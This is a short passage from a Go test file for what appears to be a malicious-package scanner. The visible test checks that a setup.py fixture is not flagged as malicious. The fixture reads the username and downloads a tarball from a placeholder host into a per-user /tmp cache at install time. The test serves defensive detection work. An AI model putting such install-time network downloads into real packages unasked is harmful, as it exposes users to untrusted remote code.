		t.Errorf("p==2 is not listed: %+v", fs)
	}
}

func TestUserNamedCacheIsNotAProbe(t *testing.T) {
	r := sdist(t, map[string]string{"setup.py": "import getpass, urllib.request\ncache = '/tmp/build-' + getpass.getuser()\nurllib.request.urlretrieve('https://example.invalid/lib.tgz', cache + '/lib.tgz')\n"})
	if r.Verdict == Malicious {
		t.Errorf("download into a per-user cache: %s %+v", r.Verdict, r.Findings)
	}
}
